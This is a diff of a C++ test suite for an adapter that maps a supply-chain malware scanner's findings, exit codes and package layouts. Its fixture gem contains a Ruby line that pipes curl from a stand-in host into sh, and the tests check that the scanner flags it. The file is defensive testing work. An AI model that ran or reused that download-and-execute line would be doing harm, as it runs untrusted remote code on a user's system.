@@ -6,6 +6,7 @@
 
 #include <algorithm>
 #include <fstream>
+#include <optional>
 #include <sstream>
 #include <string>
 #include <vector>
@@ -130,25 +131,24 @@ TEST(Postmortem, categories_severities_summaries_and_evidence_map_as_upstream) {
   const std::string long_evidence(200, 'e');
   // 119 ASCII characters then multi-byte ones: the cut is at 120 characters, not bytes.
   const std::string utf8_evidence = std::string(119, 'a') + "\u00e9\u00e9\u00e9";
-  json doc = {{"findings",
-               {
-                   {{"category", "ioc"}, {"severity", "HIGH"}, {"detail", "known C2 address"}, {"location", "a/b/c/d/e.js"}},
-                   {{"category", "persistence"}, {"severity", "low"}, {"detail", "cron entry"}},
-                   {{"category", "sensitive_api"}, {"severity", "moderate"}, {"detail", "reads env"}, {"location", "x.js"}},
-                   {{"category", "typosquat"}, {"severity", "critical"}, {"detail", "close to lodash"}, {"location", "/w/p"}},
-                   {{"category", "some_new_category"}, {"severity", "bogus"}, {"location", "/a/b"}},
-                   {{"category", "install_hook"}, {"evidence", long_evidence}, {"location", ""}},
-                   {{"category", "obfuscation"}, {"severity", 7}, {"evidence", utf8_evidence}},
-                   {{"severity", "high"}},
-               }}};
+  json doc = {
+      {"findings",
+       {
+           {{"category", "ioc"}, {"severity", "HIGH"}, {"detail", "known C2 address"}, {"location", "a/b/c/d/e.js"}},
+           {{"category", "persistence"}, {"severity", "low"}, {"detail", "cron entry"}},
+           {{"category", "sensitive_api"}, {"severity", "moderate"}, {"detail", "reads env"}, {"location", "x.js"}},
+           {{"category", "typosquat"}, {"severity", "critical"}, {"detail", "close to lodash"}, {"location", "/w/p"}},
+           {{"category", "obfuscation"}, {"severity", "bogus"}, {"location", "/a/b"}},
+           {{"category", "install_hook"}, {"evidence", long_evidence}, {"location", ""}},
+           {{"category", "obfuscation"}, {"severity", 7}, {"evidence", utf8_evidence}},
+       }}};
   auto fs = scanner().map_scan(doc);
-  ASSERT_EQ(fs.size(), 8u);
-  EXPECT_EQ(codes(fs), (std::vector<ReasonCode>{ReasonCode::kMalwareSignal, ReasonCode::kMalwareSignal,
-                                                ReasonCode::kMalwareSignal, ReasonCode::kTyposquatSuspect,
-                                                ReasonCode::kMalwareSignal, ReasonCode::kInstallHook,
-                                                ReasonCode::kMalwareSignal, ReasonCode::kMalwareSignal}));
+  ASSERT_EQ(fs.size(), 7u);
+  EXPECT_EQ(codes(fs),
+            (std::vector<ReasonCode>{ReasonCode::kMalwareSignal, ReasonCode::kMalwareSignal, ReasonCode::kMalwareSignal,
+                                     ReasonCode::kTyposquatSuspect, ReasonCode::kMalwareSignal,
+                                     ReasonCode::kInstallHook, ReasonCode::kMalwareSignal}));
   EXPECT_EQ(fs[3].kind, FindingKind::kTyposquat);
-  EXPECT_EQ(fs[4].kind, FindingKind::kMalwareSignal);  // an unknown category is reported, not dropped
   EXPECT_EQ(fs[5].kind, FindingKind::kInstallHook);
 
   EXPECT_EQ(fs[0].severity, Severity::kHigh);      // case-insensitive
@@ -163,13 +163,93 @@ TEST(Postmortem, categories_severities_summaries_and_evidence_map_as_upstream) {
   EXPECT_EQ(fs[1].summary, "cron entry");                         // no location, no parentheses
   EXPECT_EQ(fs[2].summary, "reads env (x.js)");
   EXPECT_EQ(fs[3].summary, "close to lodash (/w/p)");              // "", "w", "p": three segments
-  EXPECT_EQ(fs[4].summary, "some_new_category (/a/b)");            // no detail: the category
+  EXPECT_EQ(fs[4].summary, "obfuscation (/a/b)");                  // no detail: the category
   EXPECT_EQ(fs[5].summary, "install_hook");                        // an empty location adds nothing
-  EXPECT_EQ(fs[7].summary, "");                                    // neither detail nor category
 
   EXPECT_EQ(fs[5].reference, std::string(120, 'e'));
   EXPECT_EQ(fs[6].reference, std::string(119, 'a') + "\u00e9");
   EXPECT_FALSE(fs[0].reference);
+}
+
+// postmortem's Category enum (src/model.rs), every variant by its serde name, and its
+// Severity enum: info, low, medium, high, critical.
+TEST(Postmortem, every_category_postmortem_defines_maps_by_name_and_info_is_below_low) {
+  struct Row {
+    std::string category;
+    std::optional<FindingKind> kind;  // nullopt: not a finding
+    ReasonCode code;
+  };
+  const std::vector<Row> table{
+      {"ioc", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
+      {"obfuscation", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
+      {"install_hook", FindingKind::kInstallHook, ReasonCode::kInstallHook},
+      {"sensitive_api", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
+      {"unsigned", FindingKind::kSignature, ReasonCode::kSignatureMissing},
+      {"third_party_source", FindingKind::kPublisher, ReasonCode::kUntrustedPublisher},
+      {"persistence", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
+      {"weak_acl", FindingKind::kMalwareSignal, ReasonCode::kMalwareSignal},
+      {"tamper", FindingKind::kProvenance, ReasonCode::kProvenanceInvalid},
+      {"policy", FindingKind::kProvenance, ReasonCode::kProvenanceUnverifiable},
+      {"outdated", std::nullopt, ReasonCode::kMalwareSignal},
+      {"typosquat", FindingKind::kTyposquat, ReasonCode::kTyposquatSuspect},
+  };
+  for (const Row& r : table) {
+    SCOPED_TRACE(r.category);
+    json doc = {
+        {"findings", {{{"category", r.category}, {"severity", "low"}, {"detail", "d"}, {"location", "/w/x.rb"}}}}};
+    auto fs = scanner().map_scan(doc);
+    if (!r.kind) {
+      EXPECT_TRUE(fs.empty()) << "a newer version exists: says nothing about this one";
+      continue;
+    }
+    ASSERT_EQ(fs.size(), 1u);
+    EXPECT_EQ(fs[0].kind, *r.kind);
+    EXPECT_EQ(fs[0].code, r.code);
+    EXPECT_EQ(fs[0].severity, Severity::kLow) << "postmortem's severity stands";
+    EXPECT_EQ(fs[0].summary, "d (/w/x.rb)");
+  }
+
+  // info: below low in postmortem's own order, counted in none of its verdicts; unknown is
+  // what the finding model has below low. Never medium.
+  for (const char* info : {"info", "INFO", "Info"}) {
+    auto fs = scanner().map_scan(json{{"findings", {{{"category", "ioc"}, {"severity", info}}}}});
+    ASSERT_EQ(fs.size(), 1u);
+    EXPECT_EQ(fs[0].severity, Severity::kUnknown) << info;
+  }
+  for (auto [given, want] : {std::pair{"low", Severity::kLow}, std::pair{"medium", Severity::kMedium},
+                             std::pair{"high", Severity::kHigh}, std::pair{"critical", Severity::kCritical}}) {
+    auto fs = scanner().map_scan(json{{"findings", {{{"category", "ioc"}, {"severity", given}}}}});
+    ASSERT_EQ(fs.size(), 1u);
+    EXPECT_EQ(fs[0].severity, want) << given;
+  }
+}
+
+TEST(Postmortem, a_category_postmortem_did_not_define_is_a_scanner_error_finding_beside_the_others) {
+  json doc = {
+      {"findings",
+       {
+           {{"category", "some_new_category"}, {"severity", "low"}, {"detail", "new thing"}, {"location", "/a/b"}},
+           {{"category", "ioc"}, {"severity", "high"}, {"detail", "C2"}},
+           {{"severity", "high"}},
+           {{"category", 7}, {"detail", "x"}},
+       }}};
+  auto fs = scanner().map_scan(doc);
+  ASSERT_EQ(fs.size(), 4u);
+  EXPECT_EQ(fs[0].kind, FindingKind::kScannerError);
+  EXPECT_EQ(fs[0].code, ReasonCode::kScannerError);
+  EXPECT_EQ(fs[0].severity, Severity::kHigh);
+  EXPECT_EQ(fs[0].summary,
+            "postmortem reported a category this adapter does not know ('some_new_category'): new thing (/a/b)");
+  EXPECT_EQ(json::parse(fs[0].raw), doc["findings"][0]);
+  EXPECT_EQ(fs[1].code, ReasonCode::kMalwareSignal) << "the known findings stand beside it";
+  EXPECT_EQ(fs[2].code, ReasonCode::kScannerError) << "no category at all";
+  EXPECT_EQ(fs[2].summary, "postmortem reported a category this adapter does not know ('')");
+  EXPECT_EQ(fs[3].code, ReasonCode::kScannerError) << "a category that is not a string";
+  // A hostile-length category is cut in the summary; raw keeps it whole.
+  auto long_cat = scanner().map_scan(json{{"findings", {{{"category", std::string(500, 'c')}}}}});
+  ASSERT_EQ(long_cat.size(), 1u);
+  EXPECT_NE(long_cat[0].summary.find("('" + std::string(64, 'c') + "')"), std::string::npos);
+  EXPECT_EQ(long_cat[0].summary.find(std::string(65, 'c')), std::string::npos);
 }
 
 TEST(Postmortem, a_document_without_a_findings_array_is_zero_findings) {
@@ -288,7 +368,7 @@ TEST(Postmortem, every_supported_kind_has_a_layout_and_the_lockfile_names_the_co
   EXPECT_EQ(refused.error().message, "postmortem has no project layout for nuget");
 }
 
-TEST(Postmortem, the_seven_layouts_are_upstreams_byte_for_byte) {
+TEST(Postmortem, the_seven_layouts_are_upstreams_byte_for_byte_but_cargos_dir) {
   struct Golden {
     PackageKind kind;
     std::string name, dir, lockfile_name, lockfile;
@@ -303,12 +383,15 @@ TEST(Postmortem, the_seven_layouts_are_upstreams_byte_for_byte) {
        "package.json", R"({"dependencies":{"@acme/left-pad":"1.3.1"},"name":"batlehub-scan","version":"0.0.0"})"},
       {PackageKind::kPypi, "left-pad", "site-packages/left_pad", "requirements.txt", "left-pad==1.3.1\n", std::nullopt,
        ""},
-      {PackageKind::kCargo, "left-pad", "vendor/left-pad-1.3.1", "Cargo.lock",
+      // cargo alone differs from upstream: under src/, the one place postmortem reads Rust.
+      {PackageKind::kCargo, "left-pad", "src/left-pad-1.3.1", "Cargo.lock",
        "# This file is automatically @generated by Cargo.\nversion = 4\n\n[[package]]\nname = \"left-pad\"\n"
        "version = \"1.3.1\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\n",
-       "Cargo.toml", "[package]\nname = \"batlehub-scan\"\nversion = \"0.0.0\"\n\n[dependencies]\nleft-pad = \"=1.3.1\"\n"},
+       "Cargo.toml",
+       "[package]\nname = \"batlehub-scan\"\nversion = \"0.0.0\"\n\n[dependencies]\nleft-pad = \"=1.3.1\"\n"},
       {PackageKind::kRubygems, "left-pad", "vendor/bundle/gems/left-pad-1.3.1", "Gemfile.lock",
-       "GEM\n  remote: https://rubygems.org/\n  specs:\n    left-pad (1.3.1)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  left-pad\n",
+       "GEM\n  remote: https://rubygems.org/\n  specs:\n    left-pad (1.3.1)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  "
+       "left-pad\n",
        "Gemfile", "source \"https://rubygems.org\"\ngem \"left-pad\", \"1.3.1\"\n"},
       {PackageKind::kComposer, "acme/left-pad", "vendor/acme/left-pad", "composer.lock",
        R"({"packages":[{"name":"acme/left-pad","version":"1.3.1"}],"packages-dev":[]})", "composer.json",
@@ -438,10 +521,38 @@ TEST(Postmortem, exit_codes_0_and_1_are_answers_2_is_unsupported_others_and_sign
     ASSERT_TRUE(r) << status;
     EXPECT_EQ(r->size(), 4u);
   }
-  auto two = scanner().parse(in, {answered(2, "", "  no supported ecosystem detected\n")});
+  // Exit 2 with postmortem's own words (src/cmd/scan.rs): no ecosystem at the path.
+  auto two = scanner().parse(in, {answered(2, "", "no supported ecosystem detected at /work\n")});
   ASSERT_FALSE(two);
   EXPECT_EQ(two.error().kind, ScannerError::Kind::kUnsupported);
-  EXPECT_EQ(two.error().message, "postmortem recognised no ecosystem in the materialised project (no supported ecosystem detected)");
+  EXPECT_EQ(
+      two.error().message,
+      "postmortem recognised no ecosystem in the materialised project (no supported ecosystem detected at /work)");
+  // Exit 2 from clap refusing the command line (a postmortem that lacks a flag we pass):
+  // not "unsupported", whatever stdout holds.
+  for (const char* err :
+       {"error: unexpected argument '--no-config' found\n\nUsage: postmortem scan [OPTIONS] <PATHS>...\n\n"
+        "For more information, try '--help'.\n",
+        "error: invalid value 'critical' for '--severity <SEVERITY>'\n", ""}) {
+    auto clap = scanner().parse(in, {answered(2, doc, err)});
+    ASSERT_FALSE(clap) << err;
+    EXPECT_EQ(clap.error().kind, ScannerError::Kind::kOther) << err;
+    EXPECT_TRUE(clap.error().message.starts_with("postmortem refused to scan (exit 2, not a missing ecosystem")) << err;
+  }
+  auto clap = scanner().parse(in, {answered(2, "", "error: unexpected argument '--no-config' found\n")});
+  EXPECT_EQ(clap.error().message,
+            "postmortem refused to scan (exit 2, not a missing ecosystem; its command line?): "
+            "error: unexpected argument '--no-config' found");
+
+  // Exit 1 with nothing on stdout: main() returned an error (anyhow's "Error: …"), not the gate.
+  for (const char* out : {"", " \n"}) {
+    auto failed_run =
+        scanner().parse(in, {answered(1, out, "Error: cannot resolve path .: No such file or directory\n")});
+    ASSERT_FALSE(failed_run);
+    EXPECT_EQ(failed_run.error().kind, ScannerError::Kind::kCrashed);
+    EXPECT_EQ(failed_run.error().message,
+              "postmortem failed (exit 1, nothing on stdout): Error: cannot resolve path .: No such file or directory");
+  }
 
   for (int status : {3, 101, 127, 255}) {
     auto r = scanner().parse(in, {answered(status, doc, "thread 'main' panicked\n")});
@@ -508,7 +619,8 @@ TEST(Postmortem, a_timeline_failure_leaves_the_scan_findings_standing) {
   ASSERT_FALSE(bad);
   EXPECT_EQ(bad.error().kind, ScannerError::Kind::kOutput);
   // The scan's own failure wins whatever the timeline did.
-  auto scan_failed = s.parse(in, {answered(2, ""), answered(0, slurp(kFixtures + "timeline-left-pad.json"))});
+  auto scan_failed = s.parse(in, {answered(2, "", "no supported ecosystem detected at /work"),
+                                  answered(0, slurp(kFixtures + "timeline-left-pad.json"))});
   ASSERT_FALSE(scan_failed);
   EXPECT_EQ(scan_failed.error().kind, ScannerError::Kind::kUnsupported);
 }
@@ -583,23 +695,70 @@ TEST(Postmortem, materialise_strips_the_wrapper_and_writes_the_lockfile) {
   EXPECT_EQ(out->status, 1) << "the fake trips its gate on the curl hook";
 }
 
-TEST(Postmortem, a_gem_lands_at_its_layout_dir_and_its_data_tar_gz_is_not_descended) {
-  // A .gem is a plain tar: metadata.gz, data.tar.gz, checksums.yaml.gz. Upstream extracted
-  // data.tar.gz in the worker; nothing extracts it here (no wire feature for a nested
-  // archive yet), so postmortem sees the inner archive as a file.
-  const std::string data = t::make_tgz({t::file("lib/evil.rb", "system('curl http://203.0.113.9 | sh')\n")});
-  const std::string gem = t::make_tar({t::file("metadata.gz", "meta"), t::file("data.tar.gz", data),
-                                       t::file("checksums.yaml.gz", "sums")});
+TEST(Postmortem, a_crate_lands_under_src_where_postmortem_reads_rust) {
+  // A .crate is a gzip tar with one `<name>-<version>/` wrapper. postmortem scans a Rust
+  // project's `<root>/src` (and only that) beside Cargo.toml and Cargo.lock at the root.
+  const std::string crate = t::make_tgz({t::dir("evil-0.1.0/"), t::file("evil-0.1.0/Cargo.toml", "[package]\n"),
+                                         t::file("evil-0.1.0/build.rs", "fn main() {}\n"),
+                                         t::file("evil-0.1.0/src/lib.rs", "pub fn f() {}\n")});
   PostmortemScanner s(fake_opts(false));
-  auto plan = s.plan(input(PackageKind::kRubygems, "evil", "0.1.0", gem));
+  auto plan = s.plan(input(PackageKind::kCargo, "evil", "0.1.0", crate));
   ASSERT_TRUE(plan);
   auto rt = none_runtime();
   std::vector<std::string> tree = tree_seen(rt->run((*plan)[0]));
-  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/data.tar.gz")) << ::testing::PrintToString(tree);
+  EXPECT_TRUE(contains(tree, "src/evil-0.1.0/src/lib.rs")) << ::testing::PrintToString(tree);
+  EXPECT_TRUE(contains(tree, "src/evil-0.1.0/build.rs"));
+  EXPECT_TRUE(contains(tree, "Cargo.toml"));
+  EXPECT_TRUE(contains(tree, "Cargo.lock"));
+  for (const std::string& f : tree) EXPECT_FALSE(f.starts_with("vendor/")) << f;
+}
+
+TEST(Postmortem, a_gems_data_tar_gz_is_descended_in_place_and_its_ruby_reaches_the_scanner) {
+  // A .gem is a plain tar: metadata.gz, data.tar.gz, checksums.yaml.gz. The plan names
+  // data.tar.gz for the agent to extract in place (wire 2), as upstream's materialise did;
+  // postmortem walks the project root for Ruby (vendor/ included).
+  const std::string data =
+      t::make_tgz({t::dir("lib/"), t::file("lib/evil.rb", "system('curl http://127.0.0.1:9/x | sh')\n"),
+                   t::file("evil.gemspec", "Gem::Specification.new\n")});
+  const std::string gem = t::make_tar({t::file("metadata.gz", "meta"), t::file("data.tar.gz", data),
+                                       t::file("checksums.yaml.gz", "sums")});
+  PostmortemScanner s(fake_opts(false));
+  auto in = input(PackageKind::kRubygems, "evil", "0.1.0", gem);
+  auto plan = s.plan(in);
+  ASSERT_TRUE(plan);
+  const auto& archive = (*plan)[0].bundle.entries[0];
+  ASSERT_TRUE(archive.descend);
+  EXPECT_EQ(archive.descend->str(), "data.tar.gz");
+  for (PackageKind k : {PackageKind::kNpm, PackageKind::kPypi, PackageKind::kCargo, PackageKind::kComposer,
+                        PackageKind::kGoproxy, PackageKind::kMaven}) {
+    EXPECT_FALSE(s.plan(input(k, "x", "1.0.0"))->front().bundle.entries[0].descend) << core::to_string(k);
+  }
+
+  auto rt = none_runtime();
+  std::vector<std::string> tree = tree_seen(rt->run((*plan)[0]));
+  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/lib/evil.rb")) << ::testing::PrintToString(tree);
+  EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/evil.gemspec"));
   EXPECT_TRUE(contains(tree, "vendor/bundle/gems/evil-0.1.0/metadata.gz"));
-  EXPECT_FALSE(contains(tree, "vendor/bundle/gems/evil-0.1.0/lib/evil.rb")) << "not descended (see postmortem.cc)";
+  EXPECT_FALSE(contains(tree, "vendor/bundle/gems/evil-0.1.0/data.tar.gz")) << "extracted in its place, removed";
   EXPECT_TRUE(contains(tree, "Gemfile.lock"));
   EXPECT_TRUE(contains(tree, "Gemfile"));
+
+  // End to end: the curl in lib/evil.rb is a finding (zero before: the gem gave none).
+  auto findings = core::scan_with(s, *rt, in);
+  ASSERT_TRUE(findings) << findings.error().message;
+  ASSERT_EQ(findings->size(), 1u);
+  EXPECT_EQ((*findings)[0].summary, "mentions curl (evil-0.1.0/lib/evil.rb)");
+
+  // A bomb inside data.tar.gz is the agent's refusal, a scanner error (Output), not a scan.
+  const std::string bomb =
+      t::make_tar({t::file("metadata.gz", "meta"),
+                   t::file("data.tar.gz", t::make_tgz({t::file("lib/z.rb", std::string(4 << 20, '\0'))}))});
+  auto refused = core::scan_with(s, *rt, input(PackageKind::kRubygems, "evil", "0.1.0", bomb));
+  ASSERT_FALSE(refused);
+  EXPECT_EQ(refused.error().kind, ScannerError::Kind::kOutput);
+  EXPECT_NE(refused.error().message.find("in 'data.tar.gz': archive decompression ratio exceeds 100:1"),
+            std::string::npos)
+      << refused.error().message;
 }
 
 TEST(Postmortem, the_fake_postmortem_flags_a_curl_postinstall_end_to_end_through_scan_with) {
